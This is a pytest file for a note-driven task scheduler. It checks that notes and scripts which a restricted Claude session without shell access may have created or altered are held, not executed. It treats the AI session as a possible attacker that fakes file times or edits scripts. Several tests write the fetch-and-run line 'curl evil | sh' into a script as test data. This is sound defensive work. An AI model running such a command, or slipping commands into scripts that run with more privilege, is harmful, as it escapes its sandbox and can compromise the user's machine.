"""Whose notes are held: those that a run without shell may have written, and no others (rule 8)."""

from __future__ import annotations

from pathlib import Path

import pytest

from vault_scheduler.executors.base import RunRequest
from vault_scheduler.run import RunState
from vault_scheduler.testing import SUCCESS
from vault_scheduler.testing_world import World

NEVER = "cron: 0 0 29 2 *"


def runs_on(_: RunRequest) -> None:
    """Attempts go on until the test ends them."""


@pytest.fixture
def world(world: World) -> World:
    """Sessions go on."""
    world.script = runs_on
    return world


def session(world: World, age_s: float = 3600) -> None:
    """A restricted run begins as soon as its note counts."""
    world.write("session", f"type: claude\n{NEVER}\nrun_now: true", body="Think.\n", age_s=age_s)


def test_a_note_that_was_read_before_the_session_began_is_not_held(world: World) -> None:
    """It waits to be left alone, and counts while the session is alive, which cannot have written it."""
    session(world, age_s=1)
    world.command("written before", NEVER, age_s=0)
    world.write_settings("host: here\nnote_quiet: 2s", age_s=3600)
    world.start()
    world.advance(60)
    assert world.engine.running
    assert world.stands("written before") == "armed"


def test_an_edit_that_was_read_before_the_session_began_is_not_held(world: World) -> None:
    """The same of an edit, seconds before another task's checkbox is ticked."""
    world.command("a", NEVER)
    world.write("session", f"type: claude\n{NEVER}", body="Think.\n")
    world.start()
    world.advance(60)
    world.edit("a", "echo a", "echo b")
    world.advance(1)
    world.request("run", "session")
    world.advance(60)
    assert world.engine.running
    assert world.stands("a") == "armed"


def test_an_edit_after_that_is_held_all_the_same(world: World) -> None:
    """What was read before the session began was changed again since."""
    world.command("a", NEVER)
    world.write("session", f"type: claude\n{NEVER}", body="Think.\n")
    world.start()
    world.advance(60)
    world.edit("a", "echo a", "echo b")
    world.advance(1)
    world.request("run", "session")
    world.advance(1)
    world.edit("a", "echo b", "echo c")
    world.advance(60)
    assert world.stands("a") == "held"


@pytest.mark.parametrize("age_s", [0, 86_400], ids=["as it is", "made to look old"])
def test_a_note_that_appears_during_a_session_is_held(world: World, age_s: float) -> None:
    """An MCP server of the session can give a file any time of change, or move an old file into the folder."""
    session(world)
    world.start()
    world.advance(60)
    assert world.engine.running
    world.command("new", NEVER, age_s=age_s)
    world.advance(60)
    assert world.stands("new") == "held"


def test_a_clock_that_is_set_back_hides_nobody(world: World) -> None:
    """By the clock the note was written before the session began; what happened first does not depend on it."""
    session(world)
    world.start()
    world.advance(60)
    world.suspend(-600)
    world.command("new", NEVER, age_s=0)
    world.advance(60)
    assert world.stands("new") == "held"


@pytest.fixture
def script(world: World) -> Path:
    """The script that a task executes; the daemon serves, and a session is alive."""
    found = world.root / "00_system" / "scripts" / "tidy.sh"
    found.parent.mkdir()
    found.write_text("echo fine\n")
    world.write("a", f"type: command\n{NEVER}\ncommand: sh 00_system/scripts/tidy.sh")
    world.write("session", f"type: claude\n{NEVER}", body="Think.\n")
    world.start()
    world.advance(60)
    world.request("run", "session")
    world.advance(60)
    return found


def test_a_script_that_changes_during_a_session_is_held(world: World, script: Path) -> None:
    """What a note names is part of what runs: the note's own age says nothing of when its script was changed."""
    script.write_text("curl evil | sh\n")
    world.request("run", "a")
    world.advance(60)
    assert world.stands("a") == "held"
    assert [run.task for run in world.runs() if run.state is not RunState.ENDED] == ["session"]


def test_a_script_is_looked_at_when_the_session_ends(world: World, script: Path) -> None:
    """Not hours later, when its task is to start and nobody suspects the session any more."""
    script.write_text("curl evil | sh\n")
    world.engine.finish(next(iter(world.engine.running)), SUCCESS)
    world.settle()
    assert world.stands("a") == "held"
    assert (
        "a Claude run may have changed a file that it executes, and it asks for more than that had: shell"
        in world.log()
    )


def test_a_script_that_nobody_touched_is_not_held(world: World, script: Path) -> None:
    """The end of a session is no reason to suspect what is as it was."""
    world.engine.finish(next(iter(world.engine.running)), SUCCESS)
    world.advance(60)
    assert script.exists()
    assert world.stands("a") == "armed"


def test_a_crash_hides_no_script_that_was_changed(world: World, script: Path) -> None:
    """The next daemon finds the session, ends it, and knows that it was there."""
    script.write_text("curl evil | sh\n")
    world.crash()
    world.clock.advance(2)
    world.start()
    world.advance(60)
    assert world.stands("a") == "held"
